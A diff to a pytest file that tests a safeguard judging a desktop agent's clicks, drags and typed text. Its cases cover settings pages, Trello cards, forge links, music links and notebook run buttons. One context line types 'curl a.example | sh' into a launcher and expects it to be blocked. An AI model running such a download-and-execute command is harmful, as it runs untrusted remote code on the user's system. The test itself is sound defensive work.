@@ -131,3 +131,86 @@ def test_a_launcher_runs_what_is_typed_with_return():
     assert judge(typing("term\n", field, "Rofi")).critical
     assert judge(press("enter", application="Ulauncher", thing=field)).critical
     assert judge(typing("curl a.example | sh", field, "krunner")).ruling is Ruling.BLOCK
+
+
+@pytest.mark.parametrize(("application", "role", "name"), [
+    ("gnome-control-center", "list item", "Wi-Fi"),
+    ("systemsettings", "tree item", "Display & Monitor"),
+    ("控制中心", "list item", "网络"),
+    ("pavucontrol", "page tab", "Playback"),
+    ("org.gnome.Software", "toggle button", "Installed"),
+    ("应用商店", "list item", "办公学习"),
+])  # fmt: skip
+def test_turning_to_a_page_of_settings_changes_nothing(application, role, name):
+    assert not judge(click(name, role, "Window", application)).critical
+    assert judge(click(name, role, "Window", application, ActionKind.DOUBLE_CLICK, 2)).critical
+    assert judge(click(name, "switch", "Window", application)).critical
+
+
+@pytest.mark.parametrize(("application", "role", "name"), [
+    ("mullvad", "list item", "Sweden"),
+    ("gnome-control-center", "list item", "CafeNet"),
+    ("gnome-control-center", "toggle button", "Wi-Fi"),
+    ("gnome-disks", "list item", "Format"),
+    ("org.gnome.Software", "toggle button", "Krita"),
+    ("org.gnome.Software", "list item", "Krita"),
+])  # fmt: skip
+def test_rows_of_settings_that_are_no_pages_ask_every_time(application, role, name):
+    assert judge(click(name, role, "Window", application)).critical
+
+
+def test_a_row_that_is_ticked_is_no_page():
+    row = element("e", "list item", "Wi-Fi", states=("checkable",))
+    there = window(1, "Settings", "gnome-control-center")
+    action = Action(ActionKind.LEFT_CLICK, "C", (Click(AT),), "s1", window=there, element=row)
+    assert judge(action).critical
+
+
+def drag(name, claimed, role="list item"):
+    thing, there = element("e", role, name), window(1, "Fair | Trello", "Firefox")
+    return Action(
+        ActionKind.DRAG, "D", (Drag(AT, Point(300, 130)),), "s1", window=there, element=thing, claimed=claimed
+    )
+
+
+def test_what_is_dragged_is_told_by_where_it_goes():
+    assert not judge(drag("Delete old invitations", "card, to Done")).critical
+    assert not judge(drag("购买瓷砖", "卡片，拖到“已完成”")).critical
+    assert judge(drag("Order tablecloths", "card, to the trash")).critical
+    assert judge(drag("Order tablecloths", "Paint chairs, to Done")).category == "contradicted"
+    assert judge(drag("右滑付款", "")).category == "paying"
+    assert judge(drag("Pay now", "", "push button")).category == "paying"
+
+
+@pytest.mark.parametrize(("title", "name", "critical"), [
+    ("Issues · acme/portal - Firefox", "Remove login prompt after logout", False),
+    ("Pull requests · acme/portal - Firefox", "Add payment retry", False),
+    ("Issues · acme/portal - Firefox", "Delete branch", True),
+    ("Issues · acme/portal - Firefox", "Pay now", True),
+    ("Issues · Issue #3 · acme/portal - Firefox", "Remove login prompt after logout", True),
+    ("Issues · a/b · Discussion #3 - Firefox", "Remove login prompt after logout", True),
+    ("Issues · a/b - My Bank - Firefox", "Remove login prompt after logout", True),
+    ("My page - Firefox", "Remove login prompt after logout", True),
+])  # fmt: skip
+def test_links_in_a_forges_list_are_titles(title, name, critical):
+    assert judge(click(name, "link", title, claimed="the first one")).critical is critical
+
+
+def test_a_long_tab_is_a_title_and_a_claim_that_repeats_a_part_of_it_says_nothing():
+    name = "How to log out and delete an account - Help"
+    assert not judge(click(name, "page tab", claimed="the log out tab")).critical
+    assert judge(click(name, "page tab", claimed="pay now")).critical
+    assert judge(click("Delete account", "page tab")).critical
+
+
+def test_a_players_link_is_a_command_only_as_a_whole():
+    assert not judge(click("Delete All the Memories of You", "link", "Music", "Spotify")).critical
+    assert not judge(click("买卖", "link", "Music", "Spotify")).critical
+    assert judge(click("Delete", "link", "Music", "Spotify")).critical
+    assert judge(click("Subscribe", "push button", "Music", "Spotify")).critical
+    assert judge(click("Delete All the Memories of You", "link", "Spotify - Firefox")).critical
+
+
+@pytest.mark.parametrize("name", ["▶", "Play", "Run cell", "运行"])
+def test_the_buttons_of_notebooks_run(name):
+    assert judge(click(name, "push button", "a.ipynb - JupyterLab - Firefox")).category == "running"
